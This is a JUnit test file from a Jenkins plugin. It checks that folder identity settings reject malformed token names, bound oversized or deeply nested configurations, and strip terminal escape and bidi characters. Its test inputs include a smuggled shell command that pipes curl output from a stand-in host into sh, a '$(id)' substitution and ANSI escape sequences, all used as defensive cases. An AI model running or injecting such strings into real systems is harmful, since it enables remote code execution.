// SPDX-FileCopyrightText: The machine-id authors
// SPDX-License-Identifier: Apache-2.0
package io.jenkins.plugins.machineid.folder;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.cloudbees.hudson.plugins.folder.FakeFolder;
import hudson.model.Item;
import hudson.model.ItemGroup;
import hudson.util.FormValidation;
import io.jenkins.plugins.machineid.config.MachineIdConfiguration;
import io.jenkins.plugins.machineid.config.Settings;
import io.jenkins.plugins.machineid.reply.AgentText;
import java.lang.reflect.Field;
import java.util.ArrayList;
import java.util.List;
import jenkins.model.Jenkins;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What the owner of a folder writes into its {@code config.xml} is the folder's own affair. */
class FolderFaultAttackTest {
    private static final String ESCAPE = "\u001b[2J";

    @BeforeEach
    void allow() {
        Folders.allow("**");
        Folders.administrator("web", "jenkins-web", "**");
    }

    @AfterEach
    void forbid() {
        Folders.allow();
        Jenkins.get().jobs = List.of();
    }

    private static FolderIdentity with(String field, Object value) {
        FolderIdentity identity = new FolderIdentity("api", "main");
        set(identity, field, value);
        return identity;
    }

    private static void set(Object object, String name, Object value) {
        try {
            Field field = object.getClass().getDeclaredField(name);
            field.setAccessible(true);
            field.set(object, value);
        } catch (ReflectiveOperationException e) {
            throw new AssertionError(e);
        }
    }

    /** The folder's own is at fault; its jobs keep what an administrator gives them, and other folders theirs. */
    private static String fault(FakeFolder folder) {
        FakeFolder neighbour = Folders.folder("team-c", new FolderIdentity("own", "main"));
        Jenkins.get().jobs = List.of(folder, neighbour);
        Settings below = FolderIdentities.settings(Folders.run(folder, "x"));
        String job = folder.getFullName() + "/x";
        assertTrue(below.policy().allows("web", job));
        assertFalse(below.policy().allows("api", job));
        List<Defined> all = FolderIdentities.everywhere(MachineIdConfiguration.get().settings());
        assertEquals(2, all.size());
        assertNull(all.get(1).fault());
        assertNotNull(FolderIdentities.seen(all, MachineIdConfiguration.get().settings()).identity("team-c/own"));
        assertNotNull(all.get(0).fault());
        assertTrue(AgentText.isLine(all.get(0).fault(), 2001), all.get(0).fault());
        return all.get(0).fault();
    }

    @ParameterizedTest
    @ValueSource(strings = {"x://y", "tbot+proxy+token://t@h:1", "x;curl${IFS}evil.example|sh", "-f", ".", "a b", "a/b", "$(id)", "a\nb"})
    void a26AFoldersTokenNameIsAPlainName(String name) {
        assertTrue(fault(Folders.folder("team-b", with("tokenName", name))).contains("token resource"));
        assertEquals(
                FormValidation.Kind.ERROR,
                new FolderIdentity.DescriptorImpl().doCheckTokenName(Folders.folder("team-b"), "x" + name + "/").kind);
        FolderIdentity identity = new FolderIdentity("api", "main");
        assertThrows(IllegalArgumentException.class, () -> identity.setTokenName("x" + name + "/"));
    }

    @Test
    void a26ALongNameIsNoOverflow() {
        fault(Folders.folder("team-b", with("tokenName", "tbot+proxy+x://" + "a".repeat(40_000) + "@h:1")));
        fault(Folders.folder("team-b", with("tokenName", "a".repeat(100_000))));
    }

    /** Each of it is allowed by itself; with the folder's name it is too long. */
    @Test
    void a26WhatBecomesTooLongWithTheFoldersNameIsTheFoldersFault() {
        fault(Folders.folder("team-b", with("allowedJobs", new ArrayList<>(List.of("p".repeat(1000))))));
        fault(Folders.folder("f".repeat(998), new FolderIdentity("api", "main")));
    }

    @Test
    void a26AFolderThatCanNotBeReadIsItsOwnAffair() {
        FolderIdentitiesProperty property = Folders.property();
        ArrayList<Object> odd = new ArrayList<>();
        odd.add(null);
        set(property, "identities", odd);
        fault(new FakeFolder(Jenkins.get(), "team-b").set(property));
    }

    private static FolderIdentity[] many(int identities, int patterns) {
        FolderIdentity[] many = new FolderIdentity[identities];
        ArrayList<String> jobs = new ArrayList<>();
        for (int n = 0; n < patterns; n++) {
            jobs.add(n + "*".repeat(900));
        }
        for (int n = 0; n < identities; n++) {
            many[n] = new FolderIdentity("api" + n, "main");
            set(many[n], "allowedJobs", patterns == 0 ? null : jobs);
        }
        return many;
    }

    /** Each question about a job reads all of it, and one thread asks them for each block. */
    @Test
    void a26AFoldersPatternsAreBounded() {
        assertTrue(fault(Folders.folder("team-b", many(100, 100))).contains("20,000"));
        FakeFolder usual = Folders.folder("team-b", many(100, 0));
        assertEquals(101, FolderIdentities.settings(Folders.run(usual, "x")).identities().size());
    }

    /** However deep folders are nested. The nearest ones are read first. */
    @Test
    void a26FoldersInFoldersAreBoundedTogether() {
        ItemGroup<? extends Item> parent = Jenkins.get();
        String name = "d";
        FakeFolder inner = null;
        for (int depth = 0; depth < 60; depth++) {
            inner = Folders.below(parent, name, many(100, 0));
            parent = inner;
            name += "/d";
        }
        Settings below = FolderIdentities.settings(Folders.run(inner, "x"));
        assertTrue(below.identities().size() < 1000, "" + below.identities().size());
        assertNotNull(below.identity(inner.getFullName() + "/api0"));
        assertTrue(below.policy().allows("web", inner.getFullName() + "/x"));
    }

    /** Administrators see it on consoles and pages. */
    @Test
    void a26WhatAFolderSendsSteersNoTerminal() {
        assertFalse(fault(Folders.folder("team-b", with("cluster", "main" + ESCAPE + "\nok"))).contains("\u001b"));
        fault(Folders.folder("team-b", with("maxTtl", "1h" + ESCAPE)));
        fault(Folders.folder("team-b", with("form", "x\u202ey")));
        fault(Folders.folder("team-b", with("id", "x" + ESCAPE + "\r\nok")));
        for (String field : List.of("cluster", "id")) {
            FakeFolder folder = Folders.folder("team-b", with(field, "x" + ESCAPE + "\n" + "y".repeat(5000)));
            Jenkins.get().jobs = List.of(folder);
            Defined shown = FolderIdentities.everywhere(MachineIdConfiguration.get().settings()).get(0);
            assertTrue(AgentText.isLine(shown.name(), 200), shown.name());
            assertTrue(AgentText.isLine(shown.cluster(), 200), shown.cluster());
        }
    }
}
